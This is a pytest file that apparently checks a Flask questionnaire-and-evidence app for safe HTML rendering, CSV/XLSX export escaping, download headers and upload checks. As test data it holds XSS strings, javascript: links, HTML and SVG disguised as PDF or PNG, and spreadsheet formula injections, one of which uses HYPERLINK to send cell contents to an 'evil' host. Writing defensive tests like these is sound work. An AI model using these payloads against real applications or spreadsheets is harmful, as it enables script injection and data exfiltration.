# ruff: noqa: F811  (pytest fixtures imported from _fixtures_uploads are requested by name)
"""Catalogue section 2.2, rendering and export: one test per case, named with its ID, through the real
pages, export routes and downloads."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime
from pathlib import Path

import pytest
from flask.testing import FlaskClient
from openpyxl import Workbook, load_workbook
from sqlalchemy import Engine
from sqlmodel import Session, select

from evidence.models import Evidence
from review.models import Draft, QuestionnaireRecord
from tests.catalogue._fixtures_uploads import (  # noqa: F401  (pytest fixtures)
    INDEX,
    REJECTED,
    acme,
    audit_actions,
    files_in_store,
    post_form,
    private_tmp,
    signed_in,
    text_of,
    upload_and_wait,
)
from tests.catalogue.conftest import assert_alive
from tests.helpers import PASSWORD, oid
from web.context import Runtime

REPO = Path(__file__).resolve().parents[2]
XSS = '<script>alert(1)</script>" onmouseover="x'
FORMULAS = [
    '=HYPERLINK("http://evil/?x="&A2,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\tTabbed",
    "\rReturn",
]
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


def hostile_questionnaire() -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.title = "Security"
    sheet.append(["ID", "Question", "Answer"])
    sheet.append(["1.1", f"Do you encrypt data {XSS}?", None])
    for i, _formula in enumerate(FORMULAS, start=2):
        sheet.append([f"1.{i}", f"Do you review access to system {i} every quarter?", None])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


@pytest.fixture
def approved(signed_in: FlaskClient, runtime: Runtime, engine: Engine) -> QuestionnaireRecord:
    """A questionnaire whose first question carries markup and whose approved answers are formulas."""
    record = upload_and_wait(signed_in, runtime, engine, hostile_questionnaire(), "vendor.xlsx")
    assert record.status == "ready" and record.found == 1 + len(FORMULAS), record.error
    with Session(engine) as s:
        drafts = s.exec(select(Draft).where(Draft.questionnaire_id == record.id).order_by(Draft.id)).all()  # type: ignore[arg-type]
        for draft, answer in zip(drafts, [XSS, *FORMULAS], strict=True):
            draft.answer, draft.short_answer, draft.status = answer, None, "approved"
            draft.decided_by, draft.decided_at = "approver@acme.example", datetime.now(UTC)
            s.add(draft)
        s.commit()
    return record


def export(client: FlaskClient, record: QuestionnaireRecord, fmt: str) -> bytes:
    response = client.post(f"{INDEX}{oid(record.id)}/export", data={"format": fmt})
    assert response.status_code == 200, text_of(response)[-400:]
    return response.data


def test_R01_markup_in_question_and_answer_text_is_rendered_as_text(
    signed_in: FlaskClient, approved: QuestionnaireRecord
) -> None:
    page = signed_in.get(f"{INDEX}{oid(approved.id)}").get_data(as_text=True)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "<script>alert(1)" not in page, "markup from a questionnaire reached the page unescaped"
    assert '" onmouseover="x' not in page, "a quote from user data closed an attribute"
    assert_alive(signed_in)


def test_R01_templates_are_html_and_no_code_marks_user_data_safe() -> None:
    templates = [p for p in (REPO / "web" / "templates").rglob("*") if p.is_file()]
    assert templates and all(p.suffix == ".html" for p in templates), "autoescape applies to .html only"
    sources = [
        *templates,
        *(REPO / "web").glob("*.py"),
        *(REPO / "evidence").glob("*.py"),
        REPO / "evidence" / "pack_index.html",
    ]
    for path in sources:
        text = path.read_text(encoding="utf-8")
        for forbidden in ("|safe", "| safe", "Markup(", "render_template_string", "autoescape false"):
            assert forbidden not in text, f"{path.relative_to(REPO)} uses {forbidden}"


def test_R02_javascript_or_data_links_are_refused_as_evidence(
    signed_in: FlaskClient, engine: Engine, runtime: Runtime
) -> None:
    as_approver(signed_in)
    audited = len(audit_actions(engine))
    for url in ("javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "JaVaScRiPt:alert(1)"):
        response = post_form(
            signed_in, "/o/acme/evidence/new", {"title": "Policy", "confidentiality": "nda", "url": url}
        )
        assert response.status_code == 400 and "not a web link" in text_of(response), response.status_code
    with Session(engine) as s:
        assert s.exec(select(Evidence)).all() == [], "a script link was stored as evidence"
    assert files_in_store(runtime) == [], "a file was left in the file store"
    added = audit_actions(engine)[audited:]
    assert added == [REJECTED] * 3, f"one audit event per refused link, got {added}"
    csp = signed_in.get(INDEX).headers["Content-Security-Policy"]
    assert "script-src 'self'" in csp and "unsafe-inline" not in csp
    assert_alive(signed_in)


def test_R03_no_template_embeds_data_in_inline_script() -> None:
    for path in (REPO / "web" / "templates").rglob("*.html"):
        for tag in re.findall(r"<script\b[^>]*>(.*?)</script>", path.read_text(encoding="utf-8"), flags=re.S):
            assert tag.strip() == "", (
                f"{path.name} has an inline script; pass data with |tojson in a data- attribute"
            )


def test_R04_csv_export_neutralises_formula_prefixes(
    signed_in: FlaskClient, approved: QuestionnaireRecord
) -> None:
    rows = list(csv.reader(io.StringIO(export(signed_in, approved, "csv").decode("utf-8"), newline="")))
    fields = [field for row in rows for field in row]
    assert all(not f.startswith(DANGEROUS_START) for f in fields), [
        f for f in fields if f.startswith(DANGEROUS_START)
    ]
    assert "'" + FORMULAS[0] in fields, "the text itself is kept, behind a leading quote"
    assert_alive(signed_in)


def test_R05_xlsx_export_has_no_formula_cell(signed_in: FlaskClient, approved: QuestionnaireRecord) -> None:
    for fmt in ("xlsx", "original"):
        workbook = load_workbook(io.BytesIO(export(signed_in, approved, fmt)))
        cells = [
            c for ws in workbook.worksheets for row in ws.iter_rows() for c in row if c.value is not None
        ]
        assert cells and not [c.coordinate for c in cells if c.data_type == "f"], f"{fmt}: formula cells"
        texts = [str(c.value) for c in cells]
        assert any("HYPERLINK" in t for t in texts), f"{fmt}: the answer text is missing"
    assert_alive(signed_in)


def test_R06_download_names_with_quotes_semicolons_or_unicode_use_rfc6266(
    signed_in: FlaskClient, runtime: Runtime, engine: Engine
) -> None:
    record = upload_and_wait(signed_in, runtime, engine, hostile_questionnaire(), 'Sécurité; "v2" 政策.xlsx')
    response = signed_in.get(f"{INDEX}{oid(record.id)}/file")
    disposition = response.headers["Content-Disposition"]
    assert response.status_code == 200 and disposition.startswith("attachment")
    assert "filename*=UTF-8''" in disposition and "\r" not in disposition and "\n" not in disposition
    assert re.fullmatch(
        r'attachment; filename="?[^"]*"?; filename\*=UTF-8\'\'[A-Za-z0-9%._~-]+', disposition
    ), disposition
    assert_alive(signed_in)


def test_R07_file_downloads_are_attachments_never_sniffed_cached_or_scripted(
    signed_in: FlaskClient, approved: QuestionnaireRecord, engine: Engine
) -> None:
    signed_in.post("/logout")
    assert (
        signed_in.post(
            "/login", data={"email": "approver@acme.example", "password": "correct horse battery staple"}
        ).status_code
        == 302
    )
    created = post_form(
        signed_in,
        "/o/acme/evidence/new",
        {
            "title": "Policy",
            "confidentiality": "nda",
            "file": _file(b"Access policy, reviewed yearly.\n", "policy.txt"),
        },
    )
    assert created.status_code == 302, text_of(created)[-300:]
    with Session(engine) as s:
        evidence = s.exec(select(Evidence)).one()
    for url in (f"/o/acme/evidence/{oid(evidence.id)}/download", f"{INDEX}{oid(approved.id)}/file"):
        headers = signed_in.get(url).headers
        assert headers["Content-Disposition"].startswith("attachment"), url
        assert headers["X-Content-Type-Options"] == "nosniff", url
        assert headers["Cache-Control"] == "no-store", url
        assert (
            "sandbox" in headers["Content-Security-Policy"]
            and "default-src 'none'" in headers["Content-Security-Policy"]
        ), url
    assert_alive(signed_in)


def as_approver(client: FlaskClient) -> None:
    client.post("/logout")
    response = client.post("/login", data={"email": "approver@acme.example", "password": PASSWORD})
    assert response.status_code == 302


def _file(data: bytes, name: str) -> object:
    from werkzeug.datastructures import FileStorage

    return FileStorage(io.BytesIO(data), filename=name, content_type="application/octet-stream")


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>", "report.pdf"),
        (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "diagram.png"),
        (b"<html><script>alert(1)</script></html>", "notes.txt"),
    ],
    ids=["html-as-pdf", "svg-as-png", "html-as-txt"],
)
def test_R08_html_or_svg_disguised_as_evidence_is_refused_at_upload(
    signed_in: FlaskClient, engine: Engine, runtime: Runtime, data: bytes, name: str
) -> None:
    signed_in.post("/logout")
    signed_in.post(
        "/login", data={"email": "approver@acme.example", "password": "correct horse battery staple"}
    )
    response = post_form(
        signed_in,
        "/o/acme/evidence/new",
        {"title": "Report", "confidentiality": "nda", "file": _file(data, name)},
    )
    assert response.status_code == 415, (response.status_code, text_of(response)[-400:])
    assert name in text_of(response) and "Fix:" in text_of(response)
    with Session(engine) as s:
        assert s.exec(select(Evidence)).all() == []
    assert files_in_store(runtime) == [] and audit_actions(engine).count(REJECTED) == 1
    assert_alive(signed_in)
